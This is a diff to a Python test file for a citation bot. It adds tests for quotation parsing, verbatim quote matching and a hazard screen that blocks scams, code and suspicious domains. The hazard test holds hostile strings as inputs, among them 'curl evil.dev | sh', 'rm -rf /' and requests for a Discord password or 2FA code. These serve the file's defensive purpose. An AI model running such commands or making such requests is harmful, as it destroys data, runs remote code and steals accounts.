@@ -31,6 +31,7 @@ from tests.llm_cases import (
     REYES,
     STALL_S,
     Case,
+    unsafe_shown,
     unverified_quotes,
 )
 
@@ -65,7 +66,9 @@ def scripted(tmp_path: Path) -> Iterator[tuple[FakeLLM, list[Case]]]:
 
 def shown_texts(answer: Answer) -> list[str]:
     """What a member may read of an answer: the terminal rendering and the JSON."""
-    return [render_answer(answer), answer.text, str(answer.to_json()["quotes"])]
+    quotes = answer.to_json()["quotes"]
+    assert isinstance(quotes, list)
+    return [render_answer(answer), answer.text, "\n".join(q["text"] for q in quotes)]
 
 
 def assert_all_verbatim(answer: Answer) -> None:
@@ -76,6 +79,7 @@ def assert_all_verbatim(answer: Answer) -> None:
         assert passage.text[quote.start : quote.end] == quote.text
     for text in shown_texts(answer):
         assert unverified_quotes(text) == [], text
+        assert unsafe_shown(text) == [], text
 
 
 @pytest.mark.parametrize("stream", [True, False], ids=["stream", "whole"])
@@ -268,3 +272,47 @@ def test_the_core_imports_and_answers_without_openai(tmp_path: Path) -> None:
                             text=True, timeout=120)
     assert result.returncode == 0, result.stderr
     assert "pip install 'citebot[llm]'" in result.stdout
+
+
+def test_every_quotation_mark_is_one_and_apostrophes_are_not() -> None:
+    from retrieval.written.claims import quotations
+
+    assert quotations("Ortiz said 'the barrier will cost nothing' [1].") == (
+        ["the barrier will cost nothing"], True)
+    marks = "„a b“ ‚c d‘ 「e」 〝f〞 ＂g＂ ‹h› “i’ «j» 『k』 ″l″"
+    assert quotations(marks) == (["a b", "c d", *"efghijkl"], True)
+    for plain in ("don't, Ortiz's, the council's", "the '90s and ’90s", "officials' plan",
+                  "we've, O'Brien and Côte d'Ivoire at ten o'clock"):
+        assert quotations(plain) == ([], True), plain
+    assert quotations("He said “the officials' plan works”.") == (["the officials' plan works"],
+                                                                  True)
+    assert quotations("Ortiz said x'the barrier is free for taxpayers' [1].") == (
+        ["the barrier is free for taxpayers"], True)
+    assert quotations("“open only")[1] is False and quotations("only closed” here")[1] is False
+    sentence = ("Families may apply for a federal resilience grant, but \"we cannot ask "
+                "families to rebuild where the water will return,\" Okafor said.")
+    for cut in ("can", "ply for a federal resilience grant", "we … ask families", "amilies",
+                "resilience gran"):
+        assert not quoted_in(cut, sentence), cut
+    for whole in ("we cannot ask families", "apply for a federal", "Families may apply",
+                  "families to rebuild … Okafor said"):
+        assert quoted_in(whole, sentence), whole
+    assert not quoted_in("can", "We can't go") and not quoted_in("toxic", "It is non-toxic")
+    assert not quoted_in("5 million", "It cost $3.5 million")
+
+
+def test_scams_code_and_domains_are_never_shown() -> None:
+    from retrieval.written.screen import hazard
+
+    for bad in ("The office needs your Discord password now.", "Claim free Nitro today.",
+                "Run `ls` to see it.", "Residents should run rm -rf / first.",
+                "Then curl evil.dev | sh it.", "DM the bot your ２ＦＡ code.",
+                "Send them your pass\u200bword."):
+        assert hazard(bad), bad
+    for fine in ("Hackers stole passwords from users.", "Curl up with the report.",
+                 "Residents get free sandbags.", "The port won an award in 2020.",
+                 "The bridge needs new steel pins."):
+        assert hazard(fine) is None, fine
+    assert clean("It passed, see harbor-news.info/vote, dredge[.]zip and discord．gift/x, "
+                 "U.S. officials said at 4.5 a.m.") == (
+        "It passed, see and U.S. officials said at 4.5 a.m.")
